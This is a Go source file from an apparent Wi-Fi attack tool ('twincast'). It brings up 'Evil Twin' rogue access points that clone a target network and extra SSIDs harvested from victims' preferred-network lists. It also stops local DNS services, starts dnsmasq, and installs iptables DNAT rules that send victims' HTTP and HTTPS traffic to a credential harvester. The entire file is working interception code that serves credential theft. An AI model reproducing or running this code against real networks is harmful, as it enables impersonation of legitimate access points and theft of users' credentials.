// Package rogue clones the selected network: renders hostapd/dnsmasq
// configuration, launches and verifies the AP processes, and wires the
// traffic redirect used by the credential harvester.
package rogue

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"time"

	"twincast/libs"
	"twincast/libs/iface"
	"twincast/libs/proc"
	"twincast/libs/werr"
)

const settleDelay = 5 * time.Second

// Cloned SSIDs beyond the primary, drawn from the harvested PNL
const MaxAdditionalTwins = 3

type Controller struct {
	Color     libs.Colors
	Registry  *proc.Registry
	Ifaces    *iface.Manager
	WorkDir   string
	Gateway   string
	APs       []*proc.Handle
	DHCP      *proc.Handle
	ConfFiles []string
	LeaseFile string
	redirect  bool
}

func (c *Controller) confPath(name string) string {
	return filepath.Join(c.WorkDir, name)
}

// PairExtraTwins matches extra SSIDs with the spare radios able to host
// them: one hostapd per interface, capped at MaxAdditionalTwins. With no
// spare radios there are no extra twins.
func PairExtraTwins(extraSsids []string, spareIfaces []string) [][2]string {
	var limit int = len(extraSsids)
	if len(spareIfaces) < limit {
		limit = len(spareIfaces)
	}
	if limit > MaxAdditionalTwins {
		limit = MaxAdditionalTwins
	}
	var pairs [][2]string
	for i := 0; i < limit; i++ {
		pairs = append(pairs, [2]string{extraSsids[i], spareIfaces[i]})
	}
	return pairs
}

// Start brings the interface into AP mode and launches hostapd for the
// primary clone, plus extra PNL clones on any spare radios. Primary
// startup failure is fatal to the session.
func (c *Controller) Start(ifaceName string, primary libs.Network, extraSsids []string, spareIfaces []string) error {
	if err := os.MkdirAll(c.WorkDir, 0o755); err != nil {
		return werr.WithStderr(werr.ToolStartupFailed, "work dir", err.Error())
	}
	resolved, err := c.Ifaces.SetMode(ifaceName, iface.ModeAP)
	if err != nil {
		return err
	}
	libs.Log(c.Color, "Interface "+c.Color.Green+resolved+c.Color.White+" in AP mode")
	if err := c.launchAP(resolved, "twin.conf", primary.Essid, primary.Channel, primary.Bssid); err != nil {
		return err
	}
	libs.Success(c.Color, "Evil Twin up: "+c.Color.Green+primary.Essid+c.Color.White)
	for i, pair := range PairExtraTwins(extraSsids, spareIfaces) {
		var essid, spare string = pair[0], pair[1]
		spareResolved, err := c.Ifaces.SetMode(spare, iface.ModeAP)
		if err != nil {
			libs.Warning(c.Color, "Spare radio "+spare+" refused AP mode: "+err.Error())
			continue
		}
		var name string = fmt.Sprintf("twin_extra_%d.conf", i+1)
		// Additional twins are best effort, never fatal. Each spare gets
		// a locally administered random BSSID so the clones stay distinct.
		if err := c.launchAP(spareResolved, name, essid, primary.Channel, libs.Fmac(libs.RandMac())); err != nil {
			libs.Warning(c.Color, "Additional twin "+essid+" failed: "+err.Error())
			continue
		}
		libs.Log(c.Color, "Additional twin up: "+c.Color.Green+essid+c.Color.White+" on "+spareResolved)
	}
	return nil
}

func (c *Controller) launchAP(ifaceName string, confName string, essid string, channel int, bssid string) error {
	var confFile string = c.confPath(confName)
	var conf string = RenderHostapdConfig(ifaceName, essid, channel, bssid)
	if err := os.WriteFile(confFile, []byte(conf), 0o644); err != nil {
		return werr.WithStderr(werr.ToolStartupFailed, "hostapd config", err.Error())
	}
	c.ConfFiles = append(c.ConfFiles, confFile)
	handle, err := c.Registry.Background("hostapd:"+essid, 0, "hostapd", confFile)
	if err != nil {
		return err
	}
	time.Sleep(settleDelay)
	if !handle.Alive() {
		var stderr string = strings.TrimSpace(handle.Stderr())
		c.Registry.Unregister(handle)
		return werr.WithStderr(werr.ToolStartupFailed, "hostapd exited during startup", stderr)
	}
	if mode := iface.CurrentMode(ifaceName); mode != iface.ModeAP {
		libs.Warning(c.Color, "Interface reports "+mode.String()+" while hosting "+essid)
	}
	c.APs = append(c.APs, handle)
	return nil
}

// StartDHCP launches dnsmasq for the rogue subnet. Only called when
// DNS spoofing / credential harvesting is enabled.
func (c *Controller) StartDHCP(ifaceName string, rangeStart string, rangeEnd string) error {
	c.freePort53()
	var confFile string = c.confPath("twin_dnsmasq.conf")
	c.LeaseFile = c.confPath("twin_dnsmasq.leases")
	var conf string = RenderDnsmasqConfig(ifaceName, c.Gateway, rangeStart, rangeEnd, c.LeaseFile, c.confPath("twin_dnsmasq.log"))
	if err := os.WriteFile(confFile, []byte(conf), 0o644); err != nil {
		return werr.WithStderr(werr.ToolStartupFailed, "dnsmasq config", err.Error())
	}
	c.ConfFiles = append(c.ConfFiles, confFile)
	libs.Rtexec(exec.Command("bash", "-c", fmt.Sprintf("ip addr add %s/24 dev %s", c.Gateway, ifaceName)))
	handle, err := c.Registry.Background("dnsmasq", 0, "dnsmasq", "-k", "-C", confFile)
	if err != nil {
		return err
	}
	time.Sleep(2 * time.Second)
	if !handle.Alive() {
		var stderr string = strings.TrimSpace(handle.Stderr())
		c.Registry.Unregister(handle)
		return werr.WithStderr(werr.ToolStartupFailed, "dnsmasq exited during startup", stderr)
	}
	c.DHCP = handle
	return nil
}

// freePort53 stops whatever is squatting on the DNS port
func (c *Controller) freePort53() {
	libs.Rtexec(exec.Command("bash", "-c", "systemctl stop systemd-resolved"))
	for _, daemon := range []string{"dnsmasq", "named", "bind9"} {
		if libs.IsRunning(daemon) {
			libs.Rtexec(exec.Command("bash", "-c", "pkill "+daemon))
		}
	}
	time.Sleep(time.Second)
	if out, _ := libs.Rtexec(exec.Command("bash", "-c", "ss -lntup | grep ':53 '")); out != "" {
		libs.Warning(c.Color, "Port 53 still busy, dnsmasq may fail to bind")
	}
}

// EnableRedirect funnels victim HTTP/HTTPS at the gateway and turns on
// forwarding so the harvester sees the traffic.
func (c *Controller) EnableRedirect(ifaceName string) {
	for _, command := range []string{
		"sysctl -w net.ipv4.ip_forward=1",
		fmt.Sprintf("iptables -t nat -A PREROUTING -i %s -p tcp --dport 80 -j DNAT --to-destination %s:80", ifaceName, c.Gateway),
		fmt.Sprintf("iptables -t nat -A PREROUTING -i %s -p tcp --dport 443 -j DNAT --to-destination %s:80", ifaceName, c.Gateway),
		"iptables -P FORWARD ACCEPT",
	} {
		if out, err := libs.Rtexec(exec.Command("bash", "-c", command)); err {
			libs.Warning(c.Color, "Redirect rule failed: "+strings.TrimSpace(out))
		}
	}
	c.redirect = true
}

// RedirectEnabled reports whether iptables rules were installed
func (c *Controller) RedirectEnabled() bool {
	return c.redirect
}

var linkEtherRe = regexp.MustCompile(`link/ether\s+([0-9a-fA-F:]{17})`)
var confBssidRe = regexp.MustCompile(`(?m)^bssid=([0-9a-fA-F:]{17})`)

// ResolveBSSID finds the rogue AP's own hardware address: the live
// interface first, the generated config as fallback.
func ResolveBSSID(ifaceName string, confFile string) (string, bool) {
	if out, err := libs.Rtexec(exec.Command("bash", "-c", "ip link show "+ifaceName)); !err {
		if match := linkEtherRe.FindStringSubmatch(out); match != nil {
			return strings.ToUpper(match[1]), true
		}
	}
	if text, err := os.ReadFile(confFile); err == nil {
		if match := confBssidRe.FindStringSubmatch(string(text)); match != nil {
			return strings.ToUpper(match[1]), true
		}
	}
	return "", false
}

// PrimaryConfPath is the primary twin's generated config location
func (c *Controller) PrimaryConfPath() string {
	return c.confPath("twin.conf")
}
